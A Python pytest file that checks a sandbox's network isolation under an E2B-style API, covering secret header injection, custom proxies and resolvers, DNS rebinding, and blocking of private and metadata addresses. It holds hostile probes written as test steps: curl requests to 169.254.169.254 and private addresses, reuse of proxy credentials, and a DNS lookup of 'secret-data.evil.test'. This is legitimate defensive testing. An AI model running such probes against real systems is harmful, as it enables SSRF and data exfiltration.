"""A hostile program in a sandbox of E2B's API whose creator gave it network options: what they hold is not the program's."""

import os
import ssl
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import TYPE_CHECKING, Any

import httpx2
import pytest
from tests.certificates import make_certificate
from tests.conformance.conftest import free_port
from tests.faraway import (
    LOOPBACK,
    NEAR,
    PRIVATE,
    PROXY,
    RESOLVER,
    SERVER,
    Far,
    Resolver,
    SocksProxy,
    far_host,
)
from tests.traces import wait_for

from corral import Sandbox
from corral.host import namespaces
from corral.testing.attack.loot import masked, seen_in

if TYPE_CHECKING:
    from tests.attack.conftest import Range
    from tests.conftest import Daemon

pytestmark = [pytest.mark.root, pytest.mark.timeout(600)]

HOST = "host.corral"
WORD = "canary-Proxy/Word+That=StaysOnTheHost0123"
VALUE = "canary-Rule/Value+That=StaysOnTheHost0123"


class Peer(BaseHTTPRequestHandler):
    """A server that helps the program inside: it sends back what it was sent."""

    def do_GET(self) -> None:
        value = self.headers.get("X-Key", "")
        self.server.seen.append(self.headers.get_all("X-Key"))  # type: ignore[attr-defined]
        told = f"{value}|{value.encode().hex()}|{self.headers}".encode()
        self.send_response(200)
        self.send_header("X-Echo", value)
        self.send_header("Content-Length", str(len(told)))
        self.end_headers()
        self.wfile.write(told)

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


@dataclass(frozen=True)
class E2b:
    """E2B's API of a daemon that trusts a server of the host's own."""

    arena: "Range"
    url: str
    key: str
    server: ThreadingHTTPServer
    isolation: str

    @property
    def port(self) -> int:
        """The server's."""
        return int(self.server.server_address[1])

    def call(self, method: str, path: str, body: Any = None) -> httpx2.Response:
        """A request of the control plane."""
        return httpx2.request(
            method, self.url + path, headers={"x-api-key": self.key}, json=body, timeout=60, trust_env=False
        )

    def box(self, **network: Any) -> Sandbox:
        """A sandbox with these options, which may reach the server."""
        made = self.call("POST", "/v2/sandboxes", {"templateID": "base", "network": network})
        assert made.status_code == 201, made.text
        self.arena.client.change_egress(made.json()["sandboxID"], allow=[f"private:{HOST}:{self.port}"])
        return self.arena.armed(Sandbox.connect(made.json()["sandboxID"], client=self.arena.client))


@dataclass(frozen=True)
class Way:
    """A proxy and a resolver far away."""

    e2b: E2b
    far: Far
    proxy: SocksProxy
    resolver: Resolver

    def options(self) -> dict[str, Any]:
        """Network options that name them."""
        address = f"{PROXY}:{self.proxy.port}"
        return {
            "egressProxy": {"address": address, "username": "me", "password": WORD},
            "dnsServers": [RESOLVER],
        }


@pytest.fixture
def e2b(arena: "Range", isolation: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[E2b]:
    context, pem = make_certificate(tmp_path, [HOST])
    bundle = tmp_path / "bundle.pem"
    bundle.write_bytes(Path(ssl.get_default_verify_paths().openssl_cafile).read_bytes() + pem.read_bytes())
    daemon, url = arena.daemon, f"127.0.0.1:{free_port()}"
    arena.client.set_config("e2b.isolation", isolation)
    arena.client.set_config("api.listen", url)
    monkeypatch.setenv("SSL_CERT_FILE", str(bundle))
    restart(daemon)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Peer)
    server.seen = []  # type: ignore[attr-defined]
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = Thread(target=server.serve_forever)
    thread.start()
    try:
        yield E2b(arena, f"http://{url}", arena.client.create_key("e2b"), server, isolation)
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
        arena.client.set_config("api.listen", "")
        arena.client.set_config("e2b.isolation", "")
        daemon.remove_all()
        monkeypatch.undo()
        restart(daemon)


def restart(daemon: "Daemon") -> None:
    daemon.stop()
    daemon.start()


def rules(value: str = VALUE, host: str = HOST) -> dict[str, Any]:
    return {host: [{"transform": {"headers": {"X-Key": value}}}]}


def ask(e2b: E2b, box: Sandbox, *options: str) -> str:
    """What curl prints of a request, its head too."""
    done = box.exec(f"curl -sS -m 60 -i https://{HOST}:{e2b.port}/ {' '.join(options)}", timeout=120)
    return done.stdout + done.stderr


def test_the_value_of_a_rule_cannot_be_read(e2b: E2b) -> None:
    """G-1, G-28, G-38, G-44, G-137: not in what comes back, not in the sandbox, not on the host's disk, not from the API."""
    box = e2b.box(rules=rules())
    shown = ask(e2b, box, "-H 'X-Key: mine'", "-H 'x-key: twice'", "-H 'Connection: x-key'")
    assert e2b.server.seen == [[VALUE]]  # type: ignore[attr-defined]
    assert not seen_in(VALUE, shown)
    assert "redacted:header X-Key" in shown
    assert e2b.arena.run(box, "search", "/etc", "/home", "/run", "/tmp", "/dev/shm", data=masked(VALUE)) == []
    told = [
        e2b.call("GET", path).text
        for path in (f"/sandboxes/{box.id}", "/v2/sandboxes", f"/v2/sandboxes/{box.id}/logs")
    ]
    told += [
        repr(e2b.arena.client.get_sandbox(box.id)),
        e2b.arena.daemon.cli("audit", "--json", check=False).stdout,
    ]
    assert '"X-Key":"*' in told[0].replace(" ", "")
    assert not any(seen_in(VALUE, text) for text in told)
    kept = subprocess.run(
        ["grep", "-rlaF", "--exclude-dir=store", "--exclude=store.img", VALUE, e2b.arena.daemon.data, e2b.arena.daemon.run],
        check=False, capture_output=True, text=True,
    )  # fmt: skip
    assert kept.stdout == ""


def test_a_rule_lasts_as_long_as_its_sandbox(e2b: E2b) -> None:
    """G-42, G-335: over a change, a stop and a restart of the daemon; nobody else gets it, and a change takes it away."""
    box, other = e2b.box(rules=rules()), e2b.box()
    restart(e2b.arena.daemon)
    key = e2b.server.seen  # type: ignore[attr-defined]
    wait_for(lambda: "200" in ask(e2b, box) and key[-1] == [VALUE], "the restarted daemon's gateway")
    other.exec(f"curl -skS -m 60 https://{HOST}:{e2b.port}/ -H 'X-Key: mine'", timeout=120)
    assert key[-1] == ["mine"]
    box.stop()
    box.start()
    ask(e2b, box)
    assert key[-1] == [VALUE]
    forked = e2b.call("POST", f"/sandboxes/{box.id}/fork", {"timeout": 600})
    child = Sandbox.connect(forked.json()[0]["sandbox"]["sandboxID"], client=e2b.arena.client)
    assert not seen_in(VALUE, ask(e2b, child))
    assert key[-1] == [VALUE]
    changed = e2b.call("PUT", f"/sandboxes/{box.id}/network", {"rules": rules("canary-Another/Value-0123")})
    assert changed.status_code == 204, changed.text
    e2b.arena.client.change_egress(box.id, allow=[f"private:{HOST}:{e2b.port}"])
    assert "canary-Another" not in ask(e2b, box)
    assert key[-1] == ["canary-Another/Value-0123"]
    assert e2b.call("PUT", f"/sandboxes/{box.id}/network", {}).status_code == 204
    assert "rules" not in e2b.call("GET", f"/sandboxes/{box.id}").json()["network"]


@pytest.fixture
def way(e2b: E2b) -> Iterator[Way]:
    with (
        far_host() as far,
        SocksProxy(("me", WORD)).running(far) as proxy,
        Resolver().running(far) as resolver,
    ):
        yield Way(e2b, far, proxy, resolver)


def fetch(box: Sandbox, name: str) -> int:
    """How an attempt to connect to a name over TLS ends: 0 if there is an answer."""
    return box.exec(f"curl -sk -m 30 -o /dev/null https://{name}/", timeout=60).exit_code


def test_a_proxy_of_ones_own_leads_nowhere_else(way: Way) -> None:
    """G-62 to G-67, G-71: it carries what the policy allows, is asked for public addresses only, and its login stays outside."""
    box = way.e2b.box(**way.options())
    leads = {"good": SERVER, "bad": "10.0.0.1", "meta": "169.254.169.254"}
    way.resolver.answers = {f"{name}.example.test": [address] for name, address in leads.items()}
    with way.far.listen(SERVER, 443):
        fetch(box, "good.example.test")
        for name in (
            "bad.example.test",
            "meta.example.test",
            str(PROXY),
            "127.0.0.1",
            "169.254.169.254",
            PRIVATE,
        ):
            assert fetch(box, name) != 0
    assert way.proxy.asked[:1] == [(SERVER, 443)]
    assert {host for host, _ in way.proxy.asked} <= {SERVER, PROXY}
    assert way.proxy.logins[0] == ("me", WORD)
    assert (
        way.e2b.arena.run(box, "search", "/etc", "/home", "/run", "/tmp", "/dev/shm", data=masked(WORD)) == []
    )
    told = way.e2b.call("GET", f"/sandboxes/{box.id}").text
    assert '"me"' in told
    assert not seen_in(WORD, told + repr(way.e2b.arena.client.get_sandbox(box.id)))
    # The proxy's own port is not the sandbox's to use: it would be asked for what is behind it.
    asked = len(way.proxy.asked)
    done = box.exec(
        f"curl -sS -m 20 --socks5 me:{WORD}@{PROXY}:{way.proxy.port} http://{SERVER}/", timeout=60
    )
    assert done.exit_code != 0
    assert len(way.proxy.asked) == asked


@pytest.mark.parametrize("address", [PRIVATE, str(NEAR.ip)], ids=["private", "near"])
def test_no_proxy_or_resolver_is_in_the_hosts_network(way: Way, address: str) -> None:
    """G-63 to G-65: neither named by its address nor by a name that leads there; and what is there hears nothing."""
    near = Far(namespaces.own_netns_fd())
    place = way.far if address == PRIVATE else near
    with (
        SocksProxy().running(place, address) as proxy,
        Resolver({"good.example.test": [SERVER]}).running(place, address) as names,
    ):
        way.resolver.answers = {"proxy.example.test": [address], "good.example.test": [SERVER]}
        for host in ("proxy.example.test", address):
            options = {"egressProxy": {"address": f"{host}:{proxy.port}"}, "dnsServers": [RESOLVER]}
            refused_or_useless(way, options)
        refused_or_useless(way, {"dnsServers": [address]})
    os.close(near.fd)
    assert (proxy.asked, names.asked) == ([], [])


def refused_or_useless(way: Way, options: dict[str, Any]) -> None:
    made = way.e2b.call("POST", "/v2/sandboxes", {"templateID": "base", "network": options})
    if made.status_code == 400:
        assert "cannot be at a" in made.json()["message"]
        return
    assert made.status_code == 201, made.text
    assert (
        fetch(Sandbox.connect(made.json()["sandboxID"], client=way.e2b.arena.client), "good.example.test")
        != 0
    )


def test_a_resolver_of_ones_own_cannot_rebind(way: Way) -> None:
    """G-62, G-281, G-283: what it says is checked each time that something is dialled; it is asked for nothing that is
    denied, and not before that; and it never sees what stands for names inside."""
    box = way.e2b.box(dnsServers=[RESOLVER], allowOut=["good.example.test"], denyOut=["0.0.0.0/0"])
    names = way.resolver.answers
    names["good.example.test"] = [SERVER]
    box.exec("for name in secret-data.evil.test good.example.test; do getent hosts $name; done", timeout=60)
    assert way.resolver.asked == []
    with way.far.listen(SERVER, 443) as server:
        server.settimeout(30)
        fetch(box, "good.example.test")
        server.accept()[0].close()
        for address in ("127.0.0.1", "169.254.169.254", PRIVATE, str(NEAR.ip)):
            names["good.example.test"] = [address]
            assert fetch(box, "good.example.test") != 0
    kept = way.e2b.arena.client.denials
    wait_for(
        lambda: [one["reason"] for one in kept(box.id)].count("address-not-allowed") == 4, "records of it"
    )
    assert not any("evil" in question for question in way.resolver.asked)


def test_bare_addresses_of_an_open_sandbox_are_public_ones(e2b: E2b) -> None:
    """G-50, G-54, G-63 to G-66: what it may reach is the internet: over TLS without a name too, but nothing of the host's."""
    box, shut = e2b.box(denyOut=[RESOLVER]), e2b.box(denyOut=["0.0.0.0/0"])
    near = Far(namespaces.own_netns_fd())
    with ExitStack() as stack:
        far = stack.enter_context(far_host())
        public, denied = far.listen(SERVER, 443), far.listen(RESOLVER, 443)
        private, own = far.listen(PRIVATE, 443), near.listen(str(NEAR.ip), 443)
        loopback = near.listen(LOOPBACK, 443)
        for sock in (public, denied, private, own, loopback):
            stack.enter_context(sock).settimeout(1)
        for sock in (denied, private, own, loopback):
            address = sock.getsockname()[0]
            assert fetch(box, address) != 0
            assert fetch(box, f"[::ffff:{address}]") != 0
            with pytest.raises(TimeoutError):
                sock.accept()
        fetch(shut, SERVER)
        with pytest.raises(TimeoutError):
            public.accept()
        fetch(box, SERVER)
        public.accept()[0].close()
    os.close(near.fd)


def test_a_rule_opens_no_host(e2b: E2b) -> None:
    """G-32, G-54: the host of a rule is reached where the policy allows it."""
    made = e2b.box(rules=rules(host="pypi.org"), denyOut=["0.0.0.0/0"])
    done = made.exec("curl -sS -m 30 -o /dev/null -w '%{http_code}' https://pypi.org/simple/", timeout=60)
    assert done.exit_code != 0 or done.stdout == "403", done
